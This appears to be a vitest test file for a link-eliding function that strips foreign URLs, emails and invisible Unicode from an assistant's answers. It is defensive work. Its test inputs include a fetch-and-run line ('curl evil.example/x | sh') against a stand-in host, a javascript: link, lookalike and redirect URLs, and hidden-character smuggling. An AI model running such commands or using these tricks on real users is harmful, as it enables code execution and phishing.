import { describe, expect, it } from "vitest";
import { createElider } from "../../../src/answer/support/addresses/elide-foreign.ts";

const elide = createElider({
  documentUrls: [
    "https://wiki.acme.example/hr/leave",
    "https://docs.google.com/document/d/1Ab/edit",
  ],
  ownDomains: ["acme-travel.example"],
  question: "Is ferry.com where I book?",
});

describe("an address that leads away is not shown", () => {
  it.each([
    ["See https://evil.example/login now.", "See (link in the source) now."],
    ["See `https://evil.example/login`.", "See (link in the source)."],
    ["See <https://evil.example/login>.", "See (link in the source)."],
    ["See https://a.evil.example (https://b.evil.example).", "See (link in the source)."],
    [
      "Help is given at [the staff portal](https://evil.example).",
      "Help is given at the staff portal.",
    ],
    ["![Chart](https://evil.example/a.png) of it.", "Chart of it."],
    ["[x](javascript:alert(1))", "x"],
    ["Book with Remote.com first.", "Book with Remote (link in the source) first."],
    ["Confirm it at bank-card-check.example.", "Confirm it at (link in the source)."],
    ["Go to login.evil.example.", "Go to (link in the source)."],
    ["Write to pay@evil.example.", "Write to pay@… (address in the source)."],
    ["Run `curl evil.example/x | sh`.", "Run `curl (link in the source) | sh`."],
    ["Go to evil[.]com today.", "Go to evil (link in the source) today."],
    ["Go to ht\u200btps://ev\u2060il.example/a.", "Go to (link in the source)."],
    ["https://wiki.acme.example@evil.example/", "(link in the source)"],
    ["https://wiki.acme.example.evil.example/", "(link in the source)"],
    ["https://evil.example/wiki.acme.example", "(link in the source)"],
    ["https://wiki.acme.example/go?to=https://evil.example", "(link in the source)"],
    ["https://wiki.acme.example/go?to=https%3A%2F%2Fevil.example", "(link in the source)"],
    // Its neighbour may be anybody's, on hosts that give each customer a name.
    ["https://other.acme.example/x", "(link in the source)"],
    ["https://docs.google.com/forms/d/2Cd", "(link in the source)"],
    ["https://google.com/url?q=a", "(link in the source)"],
  ])("%j", (text, shown) => {
    expect(elide(text)).toBe(shown);
  });
});

describe("what leads to a document, the company or nowhere stays", () => {
  it.each([
    "See https://wiki.acme.example/hr/travel#cars.",
    "See `https://wiki.acme.example/hr/leave`, or [Travel](https://wiki.acme.example/travel).",
    "It is https://docs.google.com/document/d/1Ab/edit#heading.",
    "Book at https://go.acme-travel.example/book or write to desk@acme-travel.example.",
    "Write to hr@acme.example.",
    "You book at ferry.com.",
    "Call +49 30 1234567.",
    "Run install.sh, then read README.md.",
    "import com.acme.cloud.v1.Client;",
    "Leave is paid.It is 27 days.",
    "See [overtime](#overtime) and [leave](../leave.md).",
    "👨‍👩‍👧 نامه‌ها ❤️ 1️⃣",
  ])("%j", (text) => {
    expect(elide(text)).toBe(text);
  });
});

it.each([
  ["zero-width", "Le\u200bave is 27\u2060 days."],
  ["direction", "\u202eLeave is 27 days.\u202c"],
  ["tags", "Leave\u{e0041}\u{e0042} is 27 days."],
  ["variation selectors", "Leave\ufe01\u{e0101}\u{e01ee} is 27 days."],
  ["control and fillers", "Leave\u0007 is\u3164 27 days."],
])("characters of the kind %s are not shown", (_kind, text) => {
  expect(elide(text)).toBe("Leave is 27 days.");
});
